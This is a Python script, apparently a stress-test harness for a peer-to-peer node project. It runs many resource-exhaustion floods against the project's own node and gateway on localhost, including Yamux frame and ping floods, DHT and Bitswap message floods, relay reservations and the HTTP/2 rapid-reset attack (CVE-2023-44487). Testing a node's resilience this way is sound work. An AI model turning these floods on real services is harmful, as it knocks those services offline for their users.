"""The floods: `python -m scripts.floods.kinds NAME CONNECTIONS SECONDS PORT GATEWAY_PORT`.

Each sends work that costs its sender next to nothing, as fast as the node takes it, on so many connections, each of a
peer of its own, and ends after so many seconds, or when the node has ended all of its connections. What it managed is
printed as a line of JSON.
"""

from __future__ import annotations

import contextlib
import json
import os
import sys
from collections.abc import AsyncIterator, Awaitable, Callable

import h2.connection
import trio

from kachery_p2p.bitswap.messages import Presence, WantlistEntry, WantType, encode
from kachery_p2p.dag.cid import CID, RAW, sha256_multihash
from kachery_p2p.errors import KacheryError
from kachery_p2p.peer_ids import peer_bytes
from kachery_p2p.routing.dht.messages import DhtMessage, DhtPeer, MessageType
from kachery_p2p.routing.dht.rpc import frame
from kachery_p2p.transport.compat import Keys
from kachery_p2p.transport.ping import PING as PING_PROTOCOL
from kachery_p2p.transport.relay import messages as relay
from kachery_p2p.wire import encode_varint
from scripts.floods.peer import FIN, HEADER, PING, SYN, UPDATE, Attacker, crumbs, data_frame

if sys.version_info < (3, 11):
    from exceptiongroup import BaseExceptionGroup  # pyright: ignore[reportMissingImports]

BITSWAP = "/ipfs/bitswap/1.2.0"
KAD = "/ipfs/lan/kad/1.0.0"
PUSH = "/ipfs/id/push/1.0.0"
#: Bytes of payload that go on one stream before the next: its window is not known here.
WINDOW = 256 * 1024


async def _one_byte_frames(peer: Attacker) -> None:
    """The body of a long Bitswap message, a byte a frame."""
    while True:
        first = encode_varint(4_000_000)
        stream, opening = peer.opening(BITSWAP, first)
        await peer.send(opening)
        batch = crumbs(stream, bytes(10_000))
        for _ in range(WINDOW // 10_000 - 1):
            await peer.send(batch)


async def _window_updates(peer: Attacker) -> None:
    stream, opening = peer.opening(BITSWAP)
    await peer.send(
        opening.replace(HEADER.pack(0, UPDATE, SYN, stream, 0xFFF00000), HEADER.pack(0, UPDATE, SYN, stream, 0))
    )
    batch = HEADER.pack(0, UPDATE, 0, stream, 1) * 50_000
    while True:
        await peer.send(batch)


async def _pings(peer: Attacker) -> None:
    """As many as are allowed, and then some."""
    while True:
        await peer.send(HEADER.pack(0, PING, SYN, 0, 1) * 500)
        await trio.sleep(0.9)


async def _opens(peer: Attacker) -> None:
    """Streams opened and ended at once, in good order."""
    while True:
        numbers = [peer.number() for _ in range(500)]
        await peer.send(b"".join(HEADER.pack(0, UPDATE, SYN | FIN, each, 0) for each in numbers))


async def _negotiation(peer: Attacker) -> None:
    """Proposals that nobody serves, on stream after stream."""
    lines = (encode_varint(5) + b"/no1\n") * 60
    while True:
        batch = b""
        for _ in range(50):
            stream, opening = peer.opening("/no0", lines)
            batch += opening + data_frame(stream, b"", FIN)
        await peer.send(batch)


async def _ping_protocol(peer: Attacker) -> None:
    streams = []
    for _ in range(20):
        stream, opening = peer.opening(PING_PROTOCOL)
        await peer.send(opening)
        streams.append(stream)
    left = WINDOW - 100
    while left > 2000 * 32:
        for stream in streams:
            await peer.send(data_frame(stream, bytes(32 * 2000)))
        left -= 2000 * 32
    await _again(peer, _ping_protocol)


async def _identify_push(peer: Attacker) -> None:
    message = b"\x32\x08kachery/" + b"".join(b"\x1a\x0c" + b"/proto/%05d" % i for i in range(100))
    body = encode_varint(len(message)) + message
    while True:
        batch = b""
        for _ in range(50):
            stream, opening = peer.opening(PUSH, body)
            batch += opening + data_frame(stream, b"", FIN)
        await peer.send(batch)


def _questions(make: Callable[[Attacker], bytes]) -> Callable[[Attacker], Awaitable[None]]:
    async def flood(peer: Attacker) -> None:
        """DHT questions in a row on eight streams."""
        while True:
            streams = []
            for _ in range(8):
                stream, opening = peer.opening(KAD)
                await peer.send(opening)
                streams.append(stream)
            batch = b"".join(make(peer) for _ in range(200))
            for _ in range((WINDOW - 100) // len(batch)):
                for stream in streams:
                    await peer.send(data_frame(stream, batch))

    return flood


def _find_node(peer: Attacker) -> bytes:
    return frame(DhtMessage(MessageType.FIND_NODE, b"\x12\x20" + os.urandom(32)))


def _get_providers(peer: Attacker) -> bytes:
    return frame(DhtMessage(MessageType.GET_PROVIDERS, b"\x12\x20" + os.urandom(32)))


def _add_provider(peer: Attacker) -> bytes:
    info = DhtPeer(peer.identity, (b"\x04\x7f\x00\x00\x01\x06\x12\x34",))
    return frame(DhtMessage(MessageType.ADD_PROVIDER, b"\x12\x20" + os.urandom(32), providers=(info,)))


def _cid() -> CID:
    return CID(1, RAW, sha256_multihash(os.urandom(16)))


def _bitswap(make: Callable[[], list[bytes]]) -> Callable[[Attacker], Awaitable[None]]:
    async def flood(peer: Attacker) -> None:
        batch = b"".join(make())
        while True:
            stream, opening = peer.opening(BITSWAP)
            await peer.send(opening)
            for _ in range((WINDOW - 200) // len(batch)):
                await peer.send(data_frame(stream, batch))
            await peer.send(data_frame(stream, b"", FIN))

    return flood


def _message(**what: object) -> bytes:
    return b"".join(bytes(part) for part in encode(protocol=BITSWAP, **what))  # type: ignore[arg-type]


def _wants() -> list[bytes]:
    return [_message(entries=[WantlistEntry(_cid(), 1, False, WantType.HAVE, True)]) for _ in range(500)]


def _cancels() -> list[bytes]:
    return [_message(entries=[WantlistEntry(_cid(), 1, True, WantType.BLOCK, False)]) for _ in range(500)]


def _empty() -> list[bytes]:
    return [b"\x00"] * 20_000


def _presences() -> list[bytes]:
    return [_message(presences=[Presence(_cid(), True)]) for _ in range(1000)]


async def _reserve(peer: Attacker) -> None:
    ask = relay.encode(relay.HOP, relay.RelayMessage(relay.RelayMessageType.RESERVE))
    while True:
        batch = b""
        for _ in range(50):
            stream, opening = peer.opening(relay.HOP, ask)
            batch += opening + data_frame(stream, b"", FIN)
        await peer.send(batch)


async def _silent(peer: Attacker) -> None:
    await trio.sleep_forever()


FLOODS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    "one-byte frames": _one_byte_frames,
    "window updates": _window_updates,
    "yamux pings": _pings,
    "opens and ends": _opens,
    "negotiation": _negotiation,
    "ping protocol": _ping_protocol,
    "identify push": _identify_push,
    "FIND_NODE": _questions(_find_node),
    "GET_PROVIDERS": _questions(_get_providers),
    "ADD_PROVIDER": _questions(_add_provider),
    "bitswap wants": _bitswap(_wants),
    "bitswap cancels": _bitswap(_cancels),
    "bitswap empty": _bitswap(_empty),
    "bitswap presences": _bitswap(_presences),
    "relay reservations": _reserve,
    "idle identities": _silent,
}


async def _again(peer: Attacker, flood: Callable[[Attacker], Awaitable[None]]) -> None:
    await trio.sleep(0.2)
    await flood(peer)


# --- floods that need no Yamux ---------------------------------------------------------------------------------------


async def _handshakes(port: int) -> None:
    """Connections made and thrown away."""
    while True:
        (await Attacker.connect(port)).close()


async def _silent_sockets(port: int) -> None:
    """One connection that says nothing, made again whenever it was ended."""
    while True:
        try:
            stream = await trio.open_tcp_stream("127.0.0.1", port)
            async with stream:
                await stream.receive_some(1)
                while await stream.receive_some(65536):
                    pass
        except (OSError, trio.BrokenResourceError):
            pass
        await trio.sleep(0.05)


@contextlib.asynccontextmanager
async def _drained(stream: trio.SocketStream) -> AsyncIterator[None]:
    """Read and forget what comes; the block is left when the other side has closed the stream."""
    async with stream, trio.open_nursery() as nursery:

        async def drain() -> None:
            while await stream.receive_some(1 << 18):
                pass
            nursery.cancel_scope.cancel()

        nursery.start_soon(drain)
        yield
        nursery.cancel_scope.cancel()


async def _http(port: int, send: bytes) -> None:
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    async with _drained(stream):
        while True:
            await stream.send_all(send)


async def _pipelined(port: int) -> None:
    """HTTP/1.1 requests in a row, without waiting for the answers."""
    await _http(port, b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200)


async def _http2_pings(port: int) -> None:
    talk = h2.connection.H2Connection()
    talk.initiate_connection()
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    async with _drained(stream):
        await stream.send_all(talk.data_to_send())
        ping = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00abcdefgh"
        while True:
            await stream.send_all(ping * 4000)


async def _http2_requests(port: int) -> None:
    """Requests that are reset as soon as they are made (CVE-2023-44487)."""
    talk = h2.connection.H2Connection()
    talk.initiate_connection()
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    head = [(":method", "GET"), (":path", "/health"), (":scheme", "http"), (":authority", "localhost")]
    async with _drained(stream):
        while True:
            for _ in range(50):
                number = talk.get_next_available_stream_id()
                talk.send_headers(number, head, end_stream=True)
                talk.reset_stream(number)
            await stream.send_all(talk.data_to_send())


PLAIN: dict[str, tuple[str, Callable[[int], Awaitable[None]]]] = {
    "handshakes": ("node", _handshakes),
    "silent sockets": ("node", _silent_sockets),
    "gateway silence": ("gateway", _silent_sockets),
    "gateway pipelined": ("gateway", _pipelined),
    "gateway HTTP/2 pings": ("gateway", _http2_pings),
    "gateway HTTP/2 resets": ("gateway", _http2_requests),
}
_GONE = (OSError, KacheryError, trio.ClosedResourceError, trio.BrokenResourceError)


class Swarm:
    """All connections of one flood, each made again when the node has ended it."""

    def __init__(self, name: str, port: int, gateway: int) -> None:
        self._name = name
        self._port = port
        self._gateway = gateway
        self.made = self.ended = self.received = 0

    async def on_yamux(self) -> None:
        """As a peer, a new one each time."""
        while True:
            seed = os.urandom(32)
            with contextlib.suppress(*_GONE):
                peer = await Attacker.connect(self._port, seed)
                peer.identity = peer_bytes(Keys.from_seed(seed).peer_id)
                self.made += 1
                try:
                    await self._until_ended(peer)
                finally:
                    self.ended += 1
                    self.received += peer.received
                    peer.close()
            await trio.sleep(0.5)

    async def _until_ended(self, peer: Attacker) -> None:
        async with trio.open_nursery() as nursery:

            async def flood() -> None:
                with contextlib.suppress(*_GONE):
                    await FLOODS[self._name](peer)
                nursery.cancel_scope.cancel()

            nursery.start_soon(flood)
            await peer.drain()
            nursery.cancel_scope.cancel()

    async def plainly(self) -> None:
        """As whoever opens a socket."""
        where, flood = PLAIN[self._name]
        while True:
            self.made += 1
            try:
                await flood(self._port if where == "node" else self._gateway)
            except _GONE:
                pass
            except BaseExceptionGroup as group:
                if group.split(_GONE)[1] is not None:
                    raise
            self.ended += 1
            await trio.sleep(0.2)


async def main(name: str, connections: int, seconds: float, port: int, gateway: int) -> None:
    """One flood, from its beginning to its end."""
    swarm = Swarm(name, port, gateway)
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(connections):
                nursery.start_soon(swarm.on_yamux if name in FLOODS else swarm.plainly)
    print(json.dumps({"connections": swarm.made, "ended": swarm.ended, "received": swarm.received}))


if __name__ == "__main__":
    os.nice(5)  # on another machine it would take nothing of this one's time
    trio.run(main, sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]))
